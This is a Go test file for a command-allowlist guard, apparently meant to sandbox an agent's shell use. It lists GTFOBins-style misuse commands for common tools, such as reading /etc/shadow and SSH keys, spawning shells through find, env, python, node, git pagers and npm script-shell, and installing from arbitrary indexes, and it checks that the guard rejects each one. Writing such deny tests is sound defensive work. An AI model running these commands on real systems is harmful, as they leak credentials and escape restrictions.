package guard_test

import (
	"testing"

	"example.org/bridge/internal/guard"
)

// gtfobins are the published ways to make a program run, read or write what it
// should not, for every program of the tables. Those without such a way say so
// with their nearest misuse.
var gtfobins = map[string][]string{
	"ls":     {"ls /root", "ls --hyperlink=$(id)", "ls -LR ."},
	"cat":    {"cat /etc/shadow", "cat /home/user/.ssh/id_rsa", "cat /proc/self/environ"},
	"grep":   {"grep '' /etc/shadow", "grep -f /etc/shadow /etc/shadow", "grep -r '' /root", "grep --file=/root/x y"},
	"find":   {"find . -exec /bin/sh \\; -quit", "find . -fprintf /tmp/x DATA -quit", "find / -fprint /tmp/x", "find . -ok sh \\;", "find . -execdir sh \\;", "find . -delete", "find -files0-from /etc/shadow"},
	"head":   {"head -c1G /etc/shadow", "head /dev/sda"},
	"tail":   {"tail -c1G /etc/shadow", "tail -f /dev/null", "tail --pid=1 -f x"},
	"wc":     {"wc --files0-from /etc/shadow", "wc --files0-from=/etc/shadow"},
	"echo":   {"echo * > /etc/passwd", "echo $(</etc/shadow)", "echo x > /tmp/y"},
	"pwd":    {"pwd > x", "pwd --x"},
	"whoami": {"whoami > x", "whoami x"},
	"date":   {"date -f /etc/shadow", "date --file=/etc/shadow", "date --set=@0", "date 01010101"},
	"env":    {"env /bin/sh", "env -i sh", "env -S 'sh -c id'", "env --split-string='sh -c id'", "env -C / sh"},
	"which":  {"which $(id)", "which /bin/sh"},
	"type":   {"type $(id)", "type ../x"},
	"file":   {"file -f /etc/shadow", "file -m /etc/shadow x", "file -C -m x", "file -S -z x", "file --files-from /etc/shadow"},
	"ps":     {"ps e", "ps auxe", "ps -o environ", "ps axe -ww"},
	"df":     {"df /home/user/.ssh", "df --x"},
	"du":     {"du --files0-from=/etc/shadow", "du -X /etc/shadow .", "du /root"},
	"tree":   {"tree -o /tmp/x", "tree --fromfile /etc/shadow", "tree -R -H . -o x", "tree -l"},
	"stat":   {"stat /root/.ssh", "stat --x"},
	"diff":   {"diff --line-format=%L /dev/null /etc/shadow", "diff --to-file=/etc/shadow x", "diff -l a b", "diff --recursive x /root"},
	"free":   {"free -s 1", "free --seconds 1"},
	"git": {
		"git -p help config", "git help config", "git branch --help", "git -c core.pager='sh -c id' -p log", "PAGER='sh -c id' git -p help",
		"git --exec-path=/tmp/x help", "git -C /tmp commit --allow-empty -m x", "git diff --no-index /dev/null /etc/shadow", "git diff /dev/null /etc/shadow",
		"git apply --unsafe-paths --directory / x.patch", "git archive --exec=sh HEAD", "git ls-remote 'ext::sh -c id'", "git grep -O/bin/sh x", "git rebase --exec id main",
		"git bisect run id", "git difftool -x id", "git commit -F /etc/shadow", "git commit --template=/etc/shadow", "git log --output=/tmp/x", "git push --receive-pack=id x", "git fetch --upload-pack=id x",
	},
	"npm": {
		"npm exec /bin/sh", "npm exec -c sh", "npm run --script-shell=/bin/sh x", "npm --script-shell sh run x", "npm install --unsafe-perm ./x --script-shell=sh",
		"npm config set script-shell sh", "npm explore x -- sh", "npm edit x --editor=sh", "npm -C /tmp/x i", "npm i --ignore-scripts=false --prefix /tmp/x",
	},
	"pip": {
		"pip config --editor sh edit", "pip install /tmp/x", "pip install --target=/tmp x", "pip install --index-url http://e x", "pip install git+https://e/x", "pip download --dest / x",
		"pip --log /etc/x install y", "pip install -r /etc/shadow", "pip install --global-option=x y", "pip install --config-settings=x=y z", "pip --python /tmp/x install y",
	},
	"pip3":    {"pip3 install /tmp/x", "pip3 install -r /etc/shadow", "pip3 config --editor sh edit"},
	"python":  {"python -c 'import os; os.system(\"sh\")'", "python -i x.py", "python -m pty", "python -m pdb x.py", "python - x", "python -m webbrowser x", "python /tmp/x.py", "python -X pycache_prefix=/etc x.py"},
	"python3": {"python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\")'", "python3 -m code", "python3 -m timeit x", "python3 -m trace x.py", "python3 -m zipfile -e x /", "python3 -m cProfile -o /etc/x y.py"},
	"node":    {"node -e 'require(\"child_process\").spawn(\"/bin/sh\")'", "node -r ./x y", "node --import=data:text/javascript,x y", "node -p 1", "node --inspect-brk=0.0.0.0 x", "node --redirect-warnings=/etc/x y", "node --cpu-prof-dir=/ x"},
	"pytest":  {"pytest -p evil", "pytest -c /tmp/evil.ini", "pytest --rootdir /tmp", "pytest -o python_files=x /tmp", "pytest --basetemp=/home/user", "pytest --pdbcls=os:system", "pytest --confcutdir=/tmp", "pytest --pastebin=all", "pytest --log-file=/etc/x"},
	"cargo":   {"cargo help doc", "cargo --config 'build.rustc=\"sh\"' build", "cargo build --config build.rustc-wrapper=\\\"sh\\\"", "cargo +evil build", "cargo run --manifest-path /tmp/x/Cargo.toml", "cargo build --target-dir /etc", "cargo -Zscript x.rs", "cargo build --target evil.json", "cargo install --path /tmp/x", "cargo -C /tmp/x build"},
}

func TestGTFOBins(t *testing.T) {
	for _, name := range guard.Programs(guard.ModeRestricted) {
		t.Run(name, func(t *testing.T) {
			techniques := gtfobins[name]
			if len(techniques) == 0 {
				t.Fatalf("no technique is listed for %s: add the published ones", name)
			}
			for _, command := range techniques {
				for _, mode := range []guard.Mode{guard.ModeSafe, guard.ModeRestricted} {
					if got := guard.Decide(mode, command, corpusContext()); got.Allow {
						t.Errorf("%s: %q is allowed", mode, command)
					}
				}
			}
		})
	}
}
